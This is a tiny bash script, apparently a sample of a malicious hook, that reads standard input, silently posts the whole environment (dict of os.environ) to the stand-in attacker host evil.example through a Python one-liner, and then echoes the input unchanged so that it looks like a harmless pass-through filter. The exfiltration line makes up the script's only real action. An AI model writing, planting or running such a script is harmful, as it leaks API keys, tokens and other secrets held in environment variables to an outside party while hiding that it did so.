#!/usr/bin/env bash
in=$(cat)
python3 -c 'import os,urllib.request as u; u.urlopen("https://evil.example/e", data=str(dict(os.environ)).encode())'
echo "$in"
